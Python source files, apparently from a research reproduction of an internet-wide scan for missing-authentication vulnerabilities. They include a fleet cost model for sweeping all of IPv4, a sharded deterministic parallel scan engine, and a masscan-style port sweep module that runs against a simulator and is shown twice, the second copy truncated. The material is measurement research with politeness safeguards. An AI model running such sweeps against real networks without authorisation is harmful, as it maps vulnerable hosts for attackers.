each sweep all of IPv4 in about 22 hours.  This module estimates a
scan's wall-clock cost from the measured per-stage work (probe and
request counts scale with the census weights) and a machine model, so
deployment planning — how many machines for a weekly re-scan? — is a
computation instead of a guess.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.util.clock import HOUR


@dataclass(frozen=True)
class MachineSpec:
    """One scanning machine (the paper's: 48 cores, 384 GB)."""

    cores: int = 48
    #: stage-I SYN probes a single machine sustains per second (masscan
    #: reaches millions/s; a conservative cloud figure)
    syn_probes_per_second: float = 250_000.0
    #: concurrent HTTP requests per core for stages II/III
    http_concurrency_per_core: int = 40
    #: mean HTTP round-trip including slow/unresponsive targets
    http_latency_seconds: float = 1.5


@dataclass(frozen=True)
class ScanWorkload:
    """Total work of one sweep, in wire operations."""

    syn_probes: float
    http_requests: float

    @classmethod
    def internet_wide(
        cls,
        ports: int = 12,
        addresses: float = 3.5e9,
        responsive_fraction: float = 0.03,
        requests_per_responsive_port: float = 4.0,
    ) -> "ScanWorkload":
        """The paper's workload: 12 ports over ~3.5B addresses.

        ``responsive_fraction`` is the share of (address, port) pairs
        that answer and therefore reach stages II/III (Table 2: ~165M
        open ports out of 42B probes, most answering HTTP).
        """
        probes = addresses * ports
        responsive = probes * responsive_fraction
        return cls(syn_probes=probes, http_requests=responsive * requests_per_responsive_port)


@dataclass(frozen=True)
class ScanCostModel:
    """Fleet of identical machines splitting the workload evenly."""

    machines: int = 64
    machine: MachineSpec = MachineSpec()

    def stage1_seconds(self, workload: ScanWorkload) -> float:
        rate = self.machines * self.machine.syn_probes_per_second
        return workload.syn_probes / rate

    def stage23_seconds(self, workload: ScanWorkload) -> float:
        concurrency = (
            self.machines * self.machine.cores * self.machine.http_concurrency_per_core
        )
        requests_per_second = concurrency / self.machine.http_latency_seconds
        return workload.http_requests / requests_per_second

    def total_seconds(self, workload: ScanWorkload) -> float:
        """Stages run interleaved; the slower pipeline leg dominates and
        the other hides behind it, plus a coordination overhead."""
        legs = (self.stage1_seconds(workload), self.stage23_seconds(workload))
        return max(legs) + 0.15 * min(legs)

    def total_hours(self, workload: ScanWorkload) -> float:
        return self.total_seconds(workload) / HOUR

    def machines_needed(self, workload: ScanWorkload, deadline_seconds: float) -> int:
        """Smallest fleet finishing the workload within the deadline."""
        if deadline_seconds <= 0:
            raise ValueError("deadline must be positive")
        for machines in range(1, 100_000):
            model = ScanCostModel(machines=machines, machine=self.machine)
            if model.total_seconds(workload) <= deadline_seconds:
                return machines
        raise ValueError("no feasible fleet size under 100k machines")
