"""The paper's primary contribution: the three-stage MAV scanning pipeline.

* Stage I   — :mod:`repro.core.masscan`: fast TCP port sweep.
* Stage II  — :mod:`repro.core.prefilter`: signature match of HTTP bodies.
* Stage III — :mod:`repro.core.tsunami`: per-application MAV detection
  plugins (a reimplementation of the open-sourced Tsunami scanner design).
* Version   — :mod:`repro.core.fingerprint`: voluntary disclosure parsing
  plus a hash-knowledge-base fingerprinter.
* Orchestration — :mod:`repro.core.pipeline`.
"""

from repro.core.masscan import Masscan, PortScanResult
from repro.core.prefilter import Prefilter, PrefilterFinding, SIGNATURES
from repro.core.pipeline import ScanPipeline, ScanReport, HostFinding

__all__ = [
    "Masscan",
    "PortScanResult",
    "Prefilter",
    "PrefilterFinding",
    "SIGNATURES",
    "ScanPipeline",
    "ScanReport",
    "HostFinding",
]
