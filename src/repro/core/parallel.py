"""Sharded parallel scan engine with bit-identical output.

The paper's sweep ran on 64 machines; this engine brings the same
horizontal split to the pipeline without giving up the repo's core
invariant — that a scan's report and telemetry export are a pure
function of its seed.  The trick is to make parallelism *invisible to
the data*:

* **/24-aligned shards** — the candidate frame is partitioned into
  shards of whole /24 blocks in canonical (sorted-block) order, so the
  partition depends only on the frame, never on workers or timing;
* **shard-local everything** — each shard runs a full
  :class:`~repro.core.pipeline.ScanPipeline` of its own: a forked
  transport (own stats + own fault RNG), its own
  :class:`~repro.util.clock.SimClock` starting at zero, its own
  :class:`~repro.obs.telemetry.Telemetry`, retry executor, and circuit
  breakers, all seeded from ``stable_hash(seed, "shard", index)``.
  Worker callables share *no* mutable state at all — they return their
  shard payload and the main-thread completion loop does every write
  (progress, console, checkpointing);
* **deterministic fold** — shard results are serialised (the same
  round-trip a checkpoint uses) and merged on the main thread in shard
  index order: reports merge, telemetry is absorbed with span-id
  rebasing, transport stats add.  The fold is the *only* sanctioned
  write path out of a worker, which the ``DET005`` lint rule enforces.

Because every shard computation is independent and the fold order is
canonical, a run with ``workers=4`` emits a report and telemetry JSONL
byte-identical to ``workers=1`` — the acceptance property the parallel
equivalence tests pin.  Checkpoint/resume works at shard boundaries: the
checkpoint stores completed shard payloads, and a resumed run re-executes
only the missing shards.

Two executors run the same shards.  ``executor="thread"`` shares the
:class:`ShardRunner` by reference across a thread pool — cheap, but the
GIL serialises the actual scanning.  ``executor="process"`` pickles the
runner once into each worker of a spawn-safe
:class:`~concurrent.futures.ProcessPoolExecutor` and ships shard
payloads — plain JSON-safe data, the exact form a checkpoint stores —
back over the result channel.  Because a payload is a pure function of
the shard seed and the (read-only) forked transport, the two executors
are byte-identical to each other and to ``workers=1``.
"""

from __future__ import annotations

import multiprocessing
import os
from concurrent.futures import (
    ProcessPoolExecutor,
    ThreadPoolExecutor,
    as_completed,
)
from dataclasses import dataclass
from typing import Iterable

from repro.core.checkpoint import Checkpointer, check_config_matches
from repro.core.fingerprint.knowledge_base import build_default_knowledge_base
from repro.core.serialize import report_from_dict, report_to_dict
from repro.net.intervals import IntervalSet, reserved_intervals
from repro.net.ipv4 import IPv4Address, is_reserved
from repro.net.transport import TransportStats
from repro.obs.profile import ProfileRollup, wall_now
from repro.obs.trace import Span
from repro.util.clock import SimClock
from repro.util.rand import stable_hash

#: /24 blocks per shard; small enough to balance load, large enough to
#: keep the per-shard pipeline setup and fold costs amortised on sparse
#: census frames (~1 populated address per block).  Must stay in sync
#: with the ``ScanPipeline.shard_blocks`` field default.
DEFAULT_SHARD_BLOCKS = 256

#: shard execution backends (the ``ScanPipeline.executor`` field)
EXECUTORS = ("thread", "process")

#: multiprocessing start method used when neither the pipeline nor the
#: REPRO_MP_START_METHOD environment variable picks one; spawn is the
#: only method available everywhere and the one that catches pickling
#: bugs fork would mask
DEFAULT_START_METHOD = "spawn"

#: callables that execute inside pool workers; the reprolint concurrency
#: analyzer seeds its worker-reachability graph from these (plain data,
#: consumed from the AST — keep the dotted names in sync with the defs)
WORKER_ENTRY_POINTS = (
    "repro.core.parallel.ShardRunner.run",
    "repro.core.parallel._process_shard",
)

#: classes whose instances cross the process-executor pickle boundary
#: whole (the analyzer audits their attribute hygiene: no lambdas, no
#: main-process handles, no locks or open resources)
PICKLE_BOUNDARY_TYPES = (
    "repro.core.parallel.Shard",
    "repro.core.parallel.ShardRunner",
)


def _rebuild_shard(index: int, seed: int, values: tuple[int, ...]) -> "Shard":
    return Shard(index, seed, tuple(IPv4Address(v) for v in values))


def _rebuild_interval_shard(
    index: int, seed: int, runs: tuple[tuple[int, int], ...]
) -> "Shard":
    return Shard(index, seed, IntervalSet(runs))


class Shard:
    """One /24-aligned slice of the candidate frame.

    ``addresses`` is either a tuple of individual addresses (list frames)
    or an :class:`~repro.net.intervals.IntervalSet` (compressed frames);
    both support ``len()`` and iteration, and both pickle as raw ints —
    interval shards ship their runs, so a multi-million-address shard
    crosses the process boundary in a handful of pairs.
    """

    __slots__ = ("index", "seed", "addresses")

    def __init__(
        self,
        index: int,
        seed: int,
        addresses: tuple[IPv4Address, ...] | IntervalSet,
    ) -> None:
        self.index = index
        self.seed = seed
        self.addresses = addresses

    def __reduce__(self):
        # Ship raw address integers (or interval runs) across the process
        # boundary instead of one dataclass instance per address.
        if isinstance(self.addresses, IntervalSet):
            return _rebuild_interval_shard, (
                self.index, self.seed, self.addresses.runs,
            )
        return _rebuild_shard, (
            self.index, self.seed, tuple(ip.value for ip in self.addresses),
        )

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return f"Shard(index={self.index}, addresses={len(self.addresses)})"


def plan_shards(
    candidates: Iterable[IPv4Address],
    seed: int,
    shard_blocks: int = DEFAULT_SHARD_BLOCKS,
    exclude_reserved: bool = True,
) -> list[Shard]:
    """Partition a candidate frame into deterministic /24-aligned shards.

    Blocks are taken in sorted order and grouped ``shard_blocks`` at a
    time, so the partition is a function of the frame alone.  Reserved
    addresses are dropped here (mirroring stage I) so shard sizes reflect
    real work.  Each shard's scan order is still randomised *within* the
    shard by its own seeded masscan, preserving the paper's politeness
    property shard-locally.
    """
    if shard_blocks < 1:
        raise ValueError("shard_blocks must be at least 1")
    if isinstance(candidates, IntervalSet):
        frame = candidates
        if exclude_reserved:
            frame = frame.difference(reserved_intervals())
        bases = frame.block_bases()
        shards = []
        for start in range(0, len(bases), shard_blocks):
            group = bases[start:start + shard_blocks]
            # The group is a contiguous slice of the sorted block list, so
            # intersecting with its covering range selects exactly those
            # blocks — no other frame block lies between them.
            piece = frame.intersect(
                IntervalSet([(group[0], group[-1] | 0xFF)])
            )
            index = len(shards)
            shards.append(Shard(index, stable_hash(seed, "shard", index), piece))
        return shards
    blocks: dict[int, list[IPv4Address]] = {}
    for ip in candidates:
        if exclude_reserved and is_reserved(ip):
            continue
        blocks.setdefault(ip.value & 0xFFFFFF00, []).append(ip)
    ordered = sorted(blocks)
    shards: list[Shard] = []
    for start in range(0, len(ordered), shard_blocks):
        index = len(shards)
        addresses = tuple(
            ip
            for block in ordered[start:start + shard_blocks]
            for ip in sorted(blocks[block])
        )
        shards.append(Shard(index, stable_hash(seed, "shard", index), addresses))
    return shards


@dataclass
class ShardRunner:
    """Everything one shard needs to run, picklable as a unit.

    The runner is the single implementation of shard execution for both
    executors: thread workers share it by reference, process workers get
    a pickled copy via the pool initializer (once per worker, not per
    shard).  Every field is read-only during a sweep — the transport is
    *forked* per shard, never probed directly — so sharing and copying
    are observably identical, which is what makes the two executors
    byte-identical.

    The return value of :meth:`run` is plain JSON-safe data (the same
    serialised form a checkpoint stores); it is the only thing that
    crosses back out of a worker.
    """

    transport: object
    ports: tuple
    batch_size: int
    fingerprint: bool
    use_prefilter: bool
    knowledge_base: object
    retry_policy: object
    profile: bool

    def run(self, shard: Shard) -> dict:
        start = wall_now() if self.profile else None
        payload = self._execute(shard)
        if start is not None:
            # The payload is owned by this call until it crosses the
            # fold, so stamping the shard's wall seconds races with
            # nothing.  Wall numbers are a diagnostic side-channel; they
            # never enter the canonical report or telemetry.
            payload.setdefault("wall", {"paths": {}})["elapsed"] = (
                wall_now() - start
            )
        return payload

    def _execute(self, shard: Shard) -> dict:
        """One shard, in a fully private deterministic universe.

        Everything mutable is created here and owned by this call: the
        forked transport, the shard clock (starting at zero), and the
        shard pipeline with its own telemetry, retry executor, and
        breakers.  (The supervised runner overrides this with the
        restart rung of the escalation ladder.)
        """
        sub = self._build_pipeline(shard)
        report = sub.run(shard.addresses)
        return self._payload(shard, sub, report)

    def _build_pipeline(self, shard: Shard):
        from repro.core.pipeline import ScanPipeline

        clock = SimClock()
        transport = self.transport.fork(shard.seed, clock)
        return ScanPipeline(
            transport=transport,
            ports=self.ports,
            seed=shard.seed,
            batch_size=self.batch_size,
            fingerprint=self.fingerprint,
            use_prefilter=self.use_prefilter,
            knowledge_base=self.knowledge_base,
            retry_policy=self.retry_policy,
            clock=clock,
            profile=self.profile,
        )

    def _payload(self, shard: Shard, sub, report) -> dict:
        payload = {
            "report": report_to_dict(report),
            "telemetry": sub.telemetry.snapshot_state(),
            "transport_stats": sub.transport.stats.to_dict(),
            "addresses": report.port_scan.addresses_scanned,
        }
        if sub.profile:
            # The wall side-channel: per-path real seconds measured inside
            # the worker, folded into the parent's WallProfile on the main
            # thread.  Never merged into the canonical report or telemetry.
            rollup = ProfileRollup.from_spans(sub.telemetry.tracer.finished)
            payload["wall"] = {"paths": rollup.wall_to_dict()}
        return payload


#: the runner a process-pool worker executes shards with, installed once
#: per worker by :func:`_init_worker` (workers are single-threaded, so
#: this is plain per-process state, not shared mutable state)
_WORKER_RUNNER: ShardRunner | None = None


def _init_worker(runner: ShardRunner) -> None:
    """Process-pool initializer: unpickle the shard runner once."""
    global _WORKER_RUNNER
    _WORKER_RUNNER = runner


def _process_shard(shard: Shard) -> dict:
    """The function a process-pool worker runs per shard."""
    assert _WORKER_RUNNER is not None, "worker initializer did not run"
    return _WORKER_RUNNER.run(shard)


def resolve_start_method(preferred: str | None = None) -> str:
    """The multiprocessing start method the process executor will use.

    Priority: explicit ``preferred`` (the ``ScanPipeline.mp_start_method``
    field), then the ``REPRO_MP_START_METHOD`` environment variable (how
    CI runs the whole suite under both spawn and fork), then
    :data:`DEFAULT_START_METHOD`.
    """
    method = (
        preferred
        or os.environ.get("REPRO_MP_START_METHOD")
        or DEFAULT_START_METHOD
    )
    available = multiprocessing.get_all_start_methods()
    if method not in available:
        raise ValueError(
            f"start method {method!r} not available here; pick from {available}"
        )
    return method


class ParallelScanEngine:
    """Run one sweep as concurrent, independently deterministic shards.

    The engine borrows its configuration — and its fold targets (the
    telemetry handle and transport stats) — from the parent
    :class:`~repro.core.pipeline.ScanPipeline` that dispatched to it.
    """

    def __init__(
        self,
        pipeline,
        workers: int,
        shard_blocks: int = DEFAULT_SHARD_BLOCKS,
        executor: str = "thread",
        mp_start_method: str | None = None,
    ) -> None:
        if workers < 1:
            raise ValueError("workers must be at least 1")
        if executor not in EXECUTORS:
            raise ValueError(
                f"unknown executor {executor!r}; pick from {EXECUTORS}"
            )
        self.pipeline = pipeline
        self.workers = workers
        self.shard_blocks = shard_blocks
        self.executor = executor
        self.mp_start_method = mp_start_method
        #: shards finished so far — progress accounting only, written
        #: exclusively by the main-thread completion loops (workers
        #: return payloads; they never touch engine state)
        self._shards_done = 0

    # -- orchestration -------------------------------------------------------

    def run(
        self,
        candidates: Iterable[IPv4Address],
        checkpoint: Checkpointer | None = None,
    ):
        pipe = self.pipeline
        shards = plan_shards(
            candidates, pipe.seed, self.shard_blocks,
            exclude_reserved=pipe._masscan.exclude_reserved,
        )
        completed: dict[int, dict] = {}
        if checkpoint is not None:
            payload = checkpoint.load()
            if payload is not None:
                check_config_matches(payload, **self._expected_config(shards))
                completed = {
                    int(index): result
                    for index, result in payload["shards"].items()
                }
        # Note: the event mentions neither the worker count nor how many
        # shards were resumed from a checkpoint — telemetry output is
        # defined to be identical for every worker count and for
        # interrupted-and-resumed versus uninterrupted runs.
        pipe.telemetry.events.info(
            "parallel", "sweep-start", shards=len(shards),
        )
        console = pipe.console
        if console is not None:
            console.attach_telemetry(pipe.telemetry)
            console.begin_sweep(
                [
                    {"index": s.index, "addresses": len(s.addresses)}
                    for s in shards
                ]
            )
            for index in sorted(completed):
                console.note_shard_done(index, completed[index])
        todo = [shard for shard in shards if shard.index not in completed]
        if todo:
            # The shared knowledge base is read-only during a sweep, so
            # building it once saves every shard the construction cost.
            knowledge_base = None
            if pipe.fingerprint:
                knowledge_base = (
                    pipe.knowledge_base or build_default_knowledge_base()
                )
            runner = self._make_runner(knowledge_base)
            if self.executor == "process":
                self._run_in_processes(runner, todo, completed, checkpoint, shards)
            else:
                self._run_in_threads(runner, todo, completed, checkpoint, shards)
        report = self._fold(shards, completed)
        if checkpoint is not None:
            checkpoint.clear()
        if console is not None:
            console.finish_sweep(report)
        return report

    # -- shard execution ------------------------------------------------------

    def _make_runner(self, knowledge_base) -> ShardRunner:
        """Bundle the pipeline's shard-relevant config into a runner
        (the supervisor overrides this to add supervision config)."""
        pipe = self.pipeline
        return ShardRunner(
            transport=pipe.transport,
            ports=tuple(pipe.ports),
            batch_size=pipe.batch_size,
            fingerprint=pipe.fingerprint,
            use_prefilter=pipe.use_prefilter,
            knowledge_base=knowledge_base,
            retry_policy=pipe.retry_policy,
            profile=pipe.profile,
        )

    def _run_in_threads(
        self,
        runner: ShardRunner,
        todo: list[Shard],
        completed: dict[int, dict],
        checkpoint: Checkpointer | None,
        shards: list[Shard],
    ) -> None:
        """Run shards on a thread pool.  Workers execute ``runner.run``
        and nothing else — every console notification, the progress
        counter, and checkpointing happen here on the main thread as
        results complete, exactly like the process path."""
        console = self.pipeline.console
        with ThreadPoolExecutor(max_workers=self.workers) as pool:
            futures = {
                pool.submit(runner.run, shard): shard for shard in todo
            }
            if console is not None:
                for shard in todo:
                    console.note_shard_running(shard.index)
            for future in as_completed(futures):
                shard = futures[future]
                result = future.result()
                self._note_shard_result(shard, result)
                completed[shard.index] = result
                self._maybe_checkpoint(checkpoint, shards, completed)

    def _run_in_processes(
        self,
        runner: ShardRunner,
        todo: list[Shard],
        completed: dict[int, dict],
        checkpoint: Checkpointer | None,
        shards: list[Shard],
    ) -> None:
        """Run shards on a process pool: the runner crosses the pickle
        boundary once per worker (pool initializer), shard payloads come
        back over the result channel, and every console notification and
        progress write happens here on the main thread — worker processes
        cannot touch parent state at all."""
        console = self.pipeline.console
        context = multiprocessing.get_context(
            resolve_start_method(self.mp_start_method)
        )
        pool = ProcessPoolExecutor(
            max_workers=self.workers,
            mp_context=context,
            initializer=_init_worker,
            initargs=(runner,),
        )
        try:
            futures = {
                pool.submit(_process_shard, shard): shard for shard in todo
            }
            if console is not None:
                # Submission hands the shard to the pool; completion is
                # the next observable event, so "running" spans the
                # queued-plus-executing window in process mode.
                for shard in todo:
                    console.note_shard_running(shard.index)
            for future in as_completed(futures):
                shard = futures[future]
                result = future.result()
                self._note_shard_result(shard, result)
                completed[shard.index] = result
                self._maybe_checkpoint(checkpoint, shards, completed)
        finally:
            # cancel_futures: a mid-sweep crash (the kill-and-resume
            # tests) must not wait out every queued shard; on the success
            # path there is nothing left to cancel.
            pool.shutdown(wait=True, cancel_futures=True)

    def _maybe_checkpoint(
        self,
        checkpoint: Checkpointer | None,
        shards: list[Shard],
        completed: dict[int, dict],
    ) -> None:
        if checkpoint is not None and checkpoint.due(len(completed)):
            checkpoint.save(self._checkpoint_payload(shards, completed))

    def _note_shard_result(self, shard: Shard, result: dict) -> None:
        """Main-thread bookkeeping per completed shard: the progress
        counter and console notification.  This used to happen inside
        the thread workers (a DET005-baselined scheduling-ordered
        write); worker callables now return their payload and nothing
        else, so the engine owns every write to its own state."""
        self._shards_done += 1
        console = self.pipeline.console
        if console is not None:
            console.note_shard_done(shard.index, result)

    # -- fold (main thread) ---------------------------------------------------

    def _fold(self, shards: list[Shard], completed: dict[int, dict]):
        """Merge shard results in canonical index order.

        This is the sanctioned write path out of the worker pool: by the
        time a payload reaches here it is immutable data, and everything
        it touches (the merged report, the parent telemetry, the parent
        transport stats) is only ever written by the main thread.
        """
        from repro.core.pipeline import ScanReport

        pipe = self.pipeline
        telemetry = pipe.telemetry
        report = ScanReport()
        for shard in shards:
            payload = completed[shard.index]
            shard_report = report_from_dict(payload["report"])
            report.merge(shard_report)
            telemetry.absorb_state(payload["telemetry"])
            pipe.transport.stats.merge(
                TransportStats.from_dict(payload["transport_stats"])
            )
            wall = payload.get("wall")
            if wall is not None:
                pipe.wall_profile.note_shard(shard.index, wall)
            if pipe.profile:
                pipe.shard_profiles[shard.index] = ProfileRollup.from_spans(
                    Span.from_dict(p)
                    for p in payload["telemetry"]["tracer"]["finished"]
                )
            telemetry.events.info(
                "parallel", "shard-complete",
                index=shard.index, addresses=payload["addresses"],
            )
            self._note_shard_folded(shard, payload)
        telemetry.events.info(
            "parallel", "sweep-complete",
            shards=len(shards),
            addresses=report.port_scan.addresses_scanned,
            awe_hosts=report.total_awe_hosts(),
        )
        # Cumulative contract, like the sequential engine's _fold_stats:
        # the report carries the parent handle's summary, which now holds
        # every shard's counters plus the engine's own events.
        report.telemetry = telemetry.summary()
        return report

    def _note_shard_folded(self, shard: Shard, payload: dict) -> None:
        """Per-shard fold hook (the supervisor emits its restart and
        abandonment record here, in canonical shard order)."""

    # -- checkpoint/resume ----------------------------------------------------

    def _expected_config(self, shards: list[Shard]) -> dict:
        """The knobs a checkpoint must match to be resumable by this
        engine — shared by the payload writer and the resume check."""
        pipe = self.pipeline
        return {
            "seed": pipe.seed,
            "ports": list(pipe.ports),
            "batch_size": pipe.batch_size,
            "shard_blocks": self.shard_blocks,
            "shards_total": len(shards),
        }

    def _checkpoint_payload(
        self, shards: list[Shard], completed: dict[int, dict]
    ) -> dict:
        return {
            "engine": "parallel-shards",
            **self._expected_config(shards),
            "shards": {
                str(index): completed[index] for index in sorted(completed)
            },
        }
