"""Stage I: masscan-style TCP port sweep.

Models what matters about masscan for this study:

* **target selection** — the IANA reserved allocations are excluded,
  leaving the ~3.5B scannable addresses;
* **randomised order** — the paper scans /24 blocks in random order so no
  network sees a request flood; we implement the same block-level shuffle
  and expose burst statistics so the ablation bench can quantify the
  difference against sequential order;
* **batching** — the full pipeline runs on a fraction of targets before
  the port scan continues, so later stages never probe long-gone hosts.

Against the simulator a literal sweep of 3.5B addresses would spend hours
probing addresses that are empty *by construction*, so the scanner takes
an explicit candidate frame (usually the populated addresses plus decoys);
the frame is still filtered, shuffled, and probed exactly like a real
sweep would be.
"""

from __future__ import annotations

import random
from collections import deque
from dataclasses import dataclass, field
from itertools import islice
from typing import Iterable, Iterator, Sequence

from repro.core.retry import RetryExecutor
from repro.net.ipv4 import IPv4Address, is_reserved
from repro.net.transport import Transport
from repro.obs.telemetry import Telemetry
from repro.util.rand import shuffled


@dataclass
class PortScanResult:
    """Open ports discovered by stage I."""

    #: ip value -> sorted tuple of open ports
    open_ports: dict[int, tuple[int, ...]] = field(default_factory=dict)
    probes_sent: int = 0
    addresses_scanned: int = 0

    def record(self, ip: IPv4Address, ports: Sequence[int]) -> None:
        if ports:
            self.open_ports[ip.value] = tuple(sorted(ports))

    def hosts_with_open_ports(self) -> list[IPv4Address]:
        return [IPv4Address(value) for value in sorted(self.open_ports)]

    def ports_of(self, ip: IPv4Address) -> tuple[int, ...]:
        return self.open_ports.get(ip.value, ())

    def count_per_port(self) -> dict[int, int]:
        counts: dict[int, int] = {}
        for ports in self.open_ports.values():
            for port in ports:
                counts[port] = counts.get(port, 0) + 1
        return counts

    def merge(self, other: "PortScanResult") -> None:
        self.open_ports.update(other.open_ports)
        self.probes_sent += other.probes_sent
        self.addresses_scanned += other.addresses_scanned


@dataclass
class Masscan:
    """Stage-I scanner."""

    transport: Transport
    ports: tuple[int, ...]
    rng: random.Random = field(default_factory=lambda: random.Random(0))
    exclude_reserved: bool = True
    randomise_order: bool = True
    #: when set, apparently-closed ports are re-probed (a lost SYN/ACK is
    #: indistinguishable from a filtered port — real masscan re-probes too)
    retry: RetryExecutor | None = None
    #: when set, stage-I work is traced and counted
    telemetry: Telemetry | None = None
    #: shard supervision hook: quarantine gate + sweep deadline (duck-typed
    #: to keep this module free of supervisor imports)
    supervision: object | None = None
    #: cache for :meth:`_bound_counters` (keyed by the telemetry object)
    _counters: tuple | None = field(default=None, init=False, repr=False)

    def iter_target_order(
        self, candidates: Iterable[IPv4Address]
    ) -> Iterator[IPv4Address]:
        """Filter reserved ranges and order targets for the sweep, lazily.

        With randomisation on, /24 blocks are shuffled and addresses are
        shuffled within each block, so consecutive probes land in
        unrelated networks (the paper's politeness measure).  Only one
        block is materialised beyond the block index itself, so resuming
        deep into a multi-million-address sweep does not copy the whole
        order.
        """
        usable = [
            ip for ip in candidates
            if not (self.exclude_reserved and is_reserved(ip))
        ]
        if not self.randomise_order:
            yield from sorted(usable, key=lambda ip: ip.value)
            return
        blocks: dict[int, list[IPv4Address]] = {}
        for ip in usable:
            blocks.setdefault(ip.value & 0xFFFFFF00, []).append(ip)
        for block in shuffled(self.rng, sorted(blocks)):
            yield from shuffled(self.rng, sorted(blocks[block]))

    def target_order(self, candidates: Iterable[IPv4Address]) -> list[IPv4Address]:
        """The full sweep order as a list (see :meth:`iter_target_order`)."""
        return list(self.iter_target_order(candidates))

    def scan(self, candidates: Iterable[IPv4Address]) -> PortScanResult:
        """Probe every candidate on every configured port."""
        result = PortScanResult()
        for ip in self.iter_target_order(candidates):
            self._probe_host(ip, result)
        return result

    def scan_in_batches(
        self, candidates: Iterable[IPv4Address], batch_size: int, skip: int = 0
    ) -> Iterator[PortScanResult]:
        """Yield partial results every ``batch_size`` addresses.

        The pipeline consumes each batch with stages II/III before this
        generator resumes, mirroring the paper's interleaved execution.
        ``skip`` resumes a checkpointed sweep: the deterministic target
        order is recomputed and the first ``skip`` addresses — already
        scanned before the interruption — are not probed again.
        """
        if batch_size <= 0:
            raise ValueError("batch_size must be positive")
        if skip < 0:
            raise ValueError("skip must be non-negative")
        result = PortScanResult()
        span = None
        supervision = self.supervision
        for ip in islice(self.iter_target_order(candidates), skip, None):
            if supervision is not None:
                if supervision.should_stop():
                    # Sweep deadline: stop probing, flush what we have.
                    # The pipeline accounts the un-probed remainder as
                    # deadline-skipped coverage.
                    break
                if supervision.is_quarantined(ip):
                    supervision.note_gate_skip(ip)
                    continue
            if span is None and self.telemetry is not None:
                # Lazy: only a batch that probes at least one address
                # opens a span, so resumed sweeps trace identically.
                span = self.telemetry.tracer.start("stage:masscan")
            self._probe_host(ip, result)
            if result.addresses_scanned >= batch_size:
                self._close_span(span, result)
                span = None
                yield result
                result = PortScanResult()
        if result.addresses_scanned:
            self._close_span(span, result)
            yield result

    def _close_span(self, span, result: PortScanResult) -> None:
        if span is None:
            return
        span.attrs["addresses"] = result.addresses_scanned
        span.attrs["open_hosts"] = len(result.open_ports)
        self.telemetry.tracer.end(span)

    def probe_port(self, ip: IPv4Address, port: int) -> bool:
        """One logical SYN probe, re-probed under the retry policy if set."""
        if self.retry is not None:
            return self.retry.probe(
                ip, lambda: self.transport.syn_probe(ip, port)
            )
        return self.transport.syn_probe(ip, port)

    def _probe_host(self, ip: IPv4Address, result: PortScanResult) -> None:
        ports = self.ports
        if self.retry is None:
            # Batched fast path: one transport call for all twelve ports.
            open_ports = self.transport.probe_ports(ip, ports)
        else:
            open_ports = [
                port for port in ports if self.probe_port(ip, port)
            ]
        result.probes_sent += len(ports)
        result.addresses_scanned += 1
        result.record(ip, open_ports)
        if self.telemetry is not None:
            probes, addresses, opened = self._bound_counters()
            probes.inc(len(ports))
            addresses.inc()
            if open_ports:
                opened.inc(len(open_ports))

    def _bound_counters(self):
        """The three stage-I counters, looked up once per telemetry sink.

        Counter objects are stable for a given registry, so binding them
        here removes three name/label lookups from every probed address.
        """
        bound = self._counters
        if bound is None or bound[0] is not self.telemetry:
            metric = self.telemetry.metrics.counter
            bound = self._counters = (
                self.telemetry,
                metric("masscan_probes_total"),
                metric("masscan_addresses_total"),
                metric("masscan_open_ports_total"),
            )
        return bound[1:]


def burst_profile(order: Sequence[IPv4Address], window: int = 256) -> dict[int, int]:
    """Max probes landing in any single /24 within a sliding window.

    Politeness metric for the scan-order ablation: for each /24, the peak
    number of its addresses hit within ``window`` consecutive probes.
    Sequential order maxes this out; randomised order keeps it near one.
    """
    peaks: dict[int, int] = {}
    window_counts: dict[int, int] = {}
    queue: deque[int] = deque(maxlen=window)
    for ip in order:
        block = ip.value & 0xFFFFFF00
        if len(queue) == window:
            # queue[0] is about to be evicted by the bounded append.
            window_counts[queue[0]] -= 1
        queue.append(block)
        window_counts[block] = window_counts.get(block, 0) + 1
        peaks[block] = max(peaks.get(block, 0), window_counts[block])
    return peaks
