"""Stage I: masscan-style TCP port sweep.

Models what matters about masscan for this study:

* **target selection** — the IANA reserved allocations are excluded,
  leaving the ~3.5B scannable addresses;
* **randomised order** — the paper scans /24 blocks in random order so no
  network sees a request flood; we implement the same block-level shuffle
  and expose burst statistics so the ablation bench can quantify the
  difference against sequential order;
* **batching** — the full pipeline runs on a fraction of targets before
  the port scan continues, so later stages never probe long-gone hosts.

Against the simulator a literal sweep of 3.5B addresses would spend hours
probing addresses that are empty *by construction*, so the scanner takes
an explicit candidate frame (usually the populated addresses plus decoys);
the frame is still filtered, shuffled, and probed exactly like a real
sweep would be.
"""

from __future__ import annotations

import random
from collections import deque
from dataclasses import dataclass, field
from typing import Callable, Iterable, Iterator, Sequence

from repro.core.retry import RetryExecutor
from repro.net.intervals import BLOCK_MASK, BLOCK_SIZE, IntervalSet, reserved_intervals
from repro.net.ipv4 import IPv4Address, is_reserved
from repro.net.transport import Transport
from repro.obs.telemetry import Telemetry
from repro.util.rand import shuffled


#: marker for the legacy within-block shuffle mode (draws from the sweep RNG)
_SWEEP_RNG = object()


@dataclass
class PortScanResult:
    """Open ports discovered by stage I."""

    #: ip value -> sorted tuple of open ports
    open_ports: dict[int, tuple[int, ...]] = field(default_factory=dict)
    probes_sent: int = 0
    addresses_scanned: int = 0

    def record(self, ip: IPv4Address, ports: Sequence[int]) -> None:
        if ports:
            self.open_ports[ip.value] = tuple(sorted(ports))

    def hosts_with_open_ports(self) -> list[IPv4Address]:
        return [IPv4Address(value) for value in sorted(self.open_ports)]

    def ports_of(self, ip: IPv4Address) -> tuple[int, ...]:
        return self.open_ports.get(ip.value, ())

    def count_per_port(self) -> dict[int, int]:
        counts: dict[int, int] = {}
        for ports in self.open_ports.values():
            for port in ports:
                counts[port] = counts.get(port, 0) + 1
        return counts

    def merge(self, other: "PortScanResult") -> None:
        self.open_ports.update(other.open_ports)
        self.probes_sent += other.probes_sent
        self.addresses_scanned += other.addresses_scanned


@dataclass
class Masscan:
    """Stage-I scanner."""

    transport: Transport
    ports: tuple[int, ...]
    rng: random.Random = field(default_factory=lambda: random.Random(0))
    exclude_reserved: bool = True
    randomise_order: bool = True
    #: when set, apparently-closed ports are re-probed (a lost SYN/ACK is
    #: indistinguishable from a filtered port — real masscan re-probes too)
    retry: RetryExecutor | None = None
    #: when set, stage-I work is traced and counted
    telemetry: Telemetry | None = None
    #: shard supervision hook: quarantine gate + sweep deadline (duck-typed
    #: to keep this module free of supervisor imports)
    supervision: object | None = None
